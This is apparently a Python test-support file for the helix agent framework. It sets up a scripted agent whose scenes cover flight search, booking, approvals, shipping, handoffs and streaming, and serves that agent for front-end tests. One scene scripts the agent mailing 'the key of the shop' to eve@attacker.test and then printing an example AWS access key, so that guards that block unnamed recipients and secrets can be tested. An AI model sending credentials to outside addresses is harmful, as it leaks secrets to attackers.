"""One scripted agent that does all that people do with agents, and the servers through which pages reach it.

Each scene begins with one message of the user. The model finds the scene by that message, so it is stateless and every
front end can play the scenes in any order, each in a session of its own.
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from pydantic import BaseModel, Field
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.staticfiles import StaticFiles
from tests.support.asgi_server import serving
from tests.support_run import QUICK, Gate, call, calls

import helix.http
from helix import Agent, Guard, Handoff, LocalExecutor, MemoryStateStore, Question, ScriptedModel, ToolContext, tool
from helix.core.messages import AssistantMessage, UserMessage
from helix.core.registry import AgentRegistry
from helix.gateway.loopback import LoopbackGateway
from helix.guards import block_secrets, named_by_user
from helix.ports.model import LLMGenerateInput

STEER, QUESTION, APPROVAL = "Find a flight to Oslo.", "Book the flight.", "Refund order A7."
PAGE, ELSEWHERE, HANDOFF = "Where is Oslo?", "Ship order A7.", "What did I pay for A7?"
GUARD, OUTPUT, STOP = "Mail the key of the shop.", "Plan a day in Oslo.", "Tell me a story."
SEAT, HOTEL = "A window seat, please.", "And a hotel."
KEY: Final = "AKIAIOSFODNN7EXAMPLE"  # the example of the AWS documentation
STORY: Final = (
    "Once a post office stood at the end of a long road. Each morning a letter came without an address, and each "
    "evening the clerk found out where it belonged. "
) * 6
TRIP: Final = {
    "title": "A day in Oslo",
    "stops": [
        {"time": "9:00", "place": "The opera house, and its roof"},
        {"time": "11:30", "place": "The Munch museum"},
        {"time": "14:00", "place": "The ferry to Bygdøy"},
        {"time": "18:00", "place": "Dinner at the harbour"},
    ],
}


class Passenger(BaseModel):
    name: str = Field(description="As in the passport")
    age: int = Field(ge=0, le=120)


class Stop(BaseModel):
    time: str
    place: str


class Trip(BaseModel):
    title: str
    stops: list[Stop]


GATES: defaultdict[str, Gate] = defaultdict(Gate)
"""By session, the gate at which the search waits."""
TOKENS: dict[str, str] = {}
"""By session, the token of the call that ends elsewhere."""
DONE: list[str] = []
"""The effects of the tools, in order: what a test compares with what people allowed."""


@tool
async def search(place: str, ctx: ToolContext[Any]) -> str:
    """Search flights."""
    await GATES[ctx.session_id].wait()
    return f"Two flights to {place}."


@tool
async def book(ctx: ToolContext[Any]) -> str:
    """Book the flight."""
    seat, who = await ctx.ask(
        Question("Window or aisle?", choices=["window", "aisle"]), Question("Who flies?", schema=Passenger)
    )
    DONE.append(f"booked {seat} for {who.name}, {who.age}")
    return f"Booked: {who.name}, {seat}."


@tool(require_approval=True)
async def refund(order: str, euros: float) -> str:
    """Refund an order."""
    DONE.append(f"refunded {order}")
    return f"{euros:.2f} euros for {order}."


@tool
async def send_mail(to: str) -> str:
    """Send a mail."""
    DONE.append(f"mailed {to}")
    return "sent"


@tool(later=True)
async def ship(order: str, ctx: ToolContext[Any]) -> None:
    """Ship an order."""
    TOKENS[ctx.session_id] = await ctx.later()


def scenes() -> Mapping[str, Sequence[Any]]:
    """Return the answers of the model, by the message that begins the scene."""
    return {
        STEER: [calls(call("search", place="Oslo"), content="I look."), _found],
        QUESTION: [calls(call("book")), "The flight is booked."],
        APPROVAL: [calls(call("refund", order="A7", euros=84.5), content="That needs a yes."), "It is refunded."],
        PAGE: [calls(call("show_map", place="Oslo")), "There it is, on your map."],
        ELSEWHERE: [calls(call("ship", order="A7"), content="I ask the warehouse."), "A7 is on its way."],
        HANDOFF: [calls(call("transfer_to_billing")), "You paid 84.50 euros."],
        GUARD: [calls(call("send_mail", to="eve@attacker.test")), _key],
        OUTPUT: [calls(call("transfer_to_planner")), {"output": TRIP, "delta_delay_s": 0.06}],
        STOP: [calls(call("transfer_to_teller")), {"content": STORY, "delta_delay_s": 0.05}],
    }


def _found(request: LLMGenerateInput) -> str:
    steered = any(isinstance(message, UserMessage) and message.content == SEAT for message in request.messages)
    return "Flight 12 has a window seat." if steered else "Flights 12 and 14."


def _key(request: LLMGenerateInput) -> str:
    blocked = isinstance(request.messages[-1], UserMessage)  # the reason of the guard that judged the first answer
    return "I may not tell it to anyone." if blocked else f"Then here it is: {KEY}."


def answer(request: LLMGenerateInput) -> Any:
    """Return the next answer of the newest scene in the conversation."""
    plan, messages = scenes(), request.messages
    begins = [at for at, one in enumerate(messages) if isinstance(one, UserMessage) and one.content in plan]
    entries = plan[str(messages[begins[-1]].content)]
    entry = entries[sum(isinstance(one, AssistantMessage) for one in messages[begins[-1] :])]
    return entry(request) if callable(entry) else entry


def people_desk() -> Agent[Any, Any]:
    """Return the agent that the user talks to. It hands over to three others. Only the teller keeps what a user cuts
    off: the guard of the desk could still refuse its answers."""
    billing = Agent(name="billing", system_prompt="Answer questions about money.", model="scripted")
    planner = Agent(name="planner", system_prompt="Plan trips.", model="scripted", output_schema=Trip)
    teller = Agent(name="teller", system_prompt="Tell stories.", model="scripted", keep_partial=True)
    return Agent(
        name="desk",
        system_prompt="Help the customers of the shop.",
        model="scripted",
        tools=[search, book, refund, ship, send_mail],
        frontend_tools=["show_map"],
        handoffs=[Handoff(billing, when="Money."), Handoff(planner, when="Trips."), Handoff(teller, when="Stories.")],
        guards=[
            Guard(name="recipients", call=named_by_user("to", otherwise="block"), tools=["send_mail"]),
            Guard(name="secrets", output=block_secrets()),
        ],
    )


@dataclass(frozen=True, slots=True)
class Desk:
    """The agent on two servers."""

    executor: LocalExecutor
    """The executor of all runs, whose registry has the agent."""
    url: str
    """The address of the HTTP server: `/agents` has the agents, and `/` the files of the pages."""
    socket: str
    """The address of the WebSocket gateway."""


@asynccontextmanager
async def people_desk_served(pages: Path) -> AsyncIterator[Desk]:
    """Serve the agent and the files in `pages`."""
    for known in (GATES, TOKENS, DONE):
        known.clear()
    registry = AgentRegistry()
    registry.register(people_desk())
    model = ScriptedModel([answer], repeat=True, record=False)
    async with LocalExecutor(MemoryStateStore(), model=model, registry=registry, settings=QUICK) as executor:
        agents = helix.http.app(executor, [registry.resolve("desk")])
        routes = [Mount("/agents", agents), Mount("/", StaticFiles(directory=pages, html=True))]
        async with serving(Starlette(routes=routes)) as url, LoopbackGateway(executor) as gateway:
            yield Desk(executor, url, gateway.url)
